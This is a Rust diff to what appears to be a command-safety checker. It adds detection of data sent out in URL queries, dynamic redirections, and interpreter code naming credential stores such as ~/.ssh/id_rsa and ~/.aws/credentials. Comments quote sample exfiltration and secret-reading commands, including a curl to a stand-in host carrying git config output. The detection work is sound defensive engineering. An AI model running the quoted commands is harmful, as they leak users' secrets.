@@ -1028,6 +1028,37 @@ pub(super) fn exposures(a: &Analysis, findings: &mut [Finding], ctx: &JudgeCtx) 
                 sent = Some((w, carry));
             }
         }
+        // A URL to a host beyond this machine whose path or query holds a command's
+        // output (`curl "https://x.example/?q=$(git config user.email)"`): the request
+        // carries that output to the host. (Loopback stays on the machine; a computed host
+        // is judged above; a substitution that prints only literals carries nothing.)
+        if hit.is_none() {
+            let f = findings.get(i);
+            let routine = f.is_some_and(|f| matches!(f.class, Class::Routine { .. }));
+            let literal_output = {
+                let mut subs = a
+                    .commands
+                    .iter()
+                    .filter(|c| c.part == sc.part && matches!(c.origin, Origin::Substitution));
+                subs.clone().next().is_some() && subs.all(|c| c.output.is_some())
+            };
+            let found = sc
+                .exec
+                .iter()
+                .skip(1)
+                .find(|w| !literal_output && url_carries_output(w));
+            if let (false, Some(w)) = (routine, found) {
+                hit = Some(Verdict::Soft {
+                    category: "exfiltration",
+                    reason: format!(
+                        "{prog} puts a command's output in the URL `{}`: it leaves the machine for that host",
+                        crate::decision::cause::one_line(w, 80)
+                    ),
+                    command: text.clone(),
+                });
+                sent = Some((w.clone(), Carry::Substitution));
+            }
+        }
         let Some(v) = hit else { continue };
         match (findings.get_mut(i), &v) {
             (
@@ -1071,6 +1102,36 @@ pub(super) fn exposures(a: &Analysis, findings: &mut [Finding], ctx: &JudgeCtx) 
         out.push(v);
     }
     out
+}
+
+/// Is `word` a URL (`scheme://host…`) to a fixed host that is not loopback, with a
+/// command substitution after the host?
+fn url_carries_output(word: &str) -> bool {
+    let Some((scheme, rest)) = word.split_once("://") else {
+        return false;
+    };
+    if scheme.is_empty()
+        || !scheme
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.' | '"' | '\''))
+    {
+        return false;
+    }
+    let end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
+    let (authority, tail) = rest.split_at(end);
+    if authority.contains(['$', '`']) {
+        return false;
+    }
+    let host = authority.rsplit('@').next().unwrap_or(authority);
+    let host = if let Some(h) = host.strip_prefix('[') {
+        h.split(']').next().unwrap_or(h)
+    } else {
+        host.split(':').next().unwrap_or(host)
+    };
+    !host.is_empty()
+        && !crate::context::floor::is_loopback(host)
+        && !host.eq_ignore_ascii_case("localhost")
+        && (tail.contains("$(") || tail.contains('`'))
 }
 
 /// Last labels of file names that no top-level domain uses (checked against the public
@@ -1258,10 +1319,30 @@ fn names_path(f: &Finding, word: &str) -> bool {
 /// `~/.ssh/$KEY` lies in `~/.ssh`). Why it may read one, if so.
 pub(super) fn dynamic_store(cmd: &Cmd, ctx: &JudgeCtx) -> Option<String> {
     let cwd = cmd.cwd.dir()?;
-    for (k, a) in cmd.args().iter().enumerate() {
-        if !cmd.arg_dynamic(k) || !super::core::is_expansion(a) {
-            continue;
-        }
+    let args = cmd
+        .args()
+        .iter()
+        .enumerate()
+        .filter(|(k, a)| cmd.arg_dynamic(*k) && super::core::is_expansion(a))
+        .map(|(_, a)| a);
+    // A redirection's target too (`tr '\0' '\n' < /proc/$$/environ`).
+    let redirected = cmd
+        .sc
+        .redirects
+        .iter()
+        .filter(|r| {
+            r.dynamic
+                && !matches!(
+                    r.op,
+                    RedirectOp::DupOut
+                        | RedirectOp::DupIn
+                        | RedirectOp::Close
+                        | RedirectOp::HereDoc
+                        | RedirectOp::HereString
+                )
+        })
+        .map(|r| &r.target);
+    for a in args.chain(redirected) {
         let Some(pattern) = expansions_as_components(a) else {
             continue;
         };
@@ -1281,6 +1362,74 @@ pub(super) fn dynamic_store(cmd: &Cmd, ctx: &JudgeCtx) -> Option<String> {
             return Some(format!(
                 "{a}, a path computed at run time that names {what} whatever it expands to"
             ));
+        }
+    }
+    None
+}
+
+/// Interpreter code that names a credential store in its string literals: an absolute
+/// path or `~/…` that is one, or, where the code also finds the home directory at run
+/// time (`Path.home()`, `expanduser`, `os.homedir()`, `$HOME`, `Dir.home`), a relative
+/// name that is one below the home (`Path.home() / '.netrc'`, `joinpath('.ssh',
+/// 'id_rsa')`: each literal is tried alone and joined to the one after it). Why, if so.
+pub(super) fn code_names_store(
+    code: &str,
+    cwd: &std::path::Path,
+    ctx: &JudgeCtx,
+) -> Option<String> {
+    const HOME_APIS: &[&str] = &[
+        "home()",
+        "expanduser",
+        "homedir",
+        "HOME",
+        "Dir.home",
+        "USERPROFILE",
+        "'~'",
+        "\"~\"",
+        "getpwuid",
+    ];
+    let home_ref = HOME_APIS.iter().any(|a| code.contains(a));
+    let literals = super::code::quoted_strings(code);
+    let store = |placed: &std::path::Path| {
+        let forms = paths::forms(&placed.display().to_string(), cwd, ctx.home);
+        let class = forms
+            .forms()
+            .find_map(|f| floor::classify(f, Access::Read, ctx.floor));
+        match class {
+            Some(PathClass::Credential { what }) => Some(what),
+            _ => None,
+        }
+    };
+    for (k, lit) in literals.iter().enumerate() {
+        let lit = lit.trim();
+        if lit.is_empty() || lit.len() > 4096 || lit.contains(['\n', '*', '{']) {
+            continue;
+        }
+        let mut candidates: Vec<std::path::PathBuf> = Vec::new();
+        if let Some(rest) = lit.strip_prefix("~/") {
+            candidates.push(ctx.home.join(rest));
+        } else if lit.starts_with('/') {
+            candidates.push(std::path::PathBuf::from(lit));
+            // `homedir() + '/.aws/credentials'`
+            if home_ref {
+                candidates.push(ctx.home.join(lit.trim_start_matches('/')));
+            }
+        } else if home_ref && !lit.contains(' ') {
+            let rel = lit.trim_start_matches("./");
+            candidates.push(ctx.home.join(rel));
+            if let Some(next) = literals.get(k + 1) {
+                if !next.is_empty() && !next.contains([' ', '\n']) && !next.starts_with('/') {
+                    candidates.push(ctx.home.join(rel).join(next.trim()));
+                }
+            }
+        }
+        for c in candidates {
+            if c == ctx.home {
+                continue;
+            }
+            if let Some(what) = store(&c) {
+                return Some(format!("`{lit}` ({what})"));
+            }
         }
     }
     None
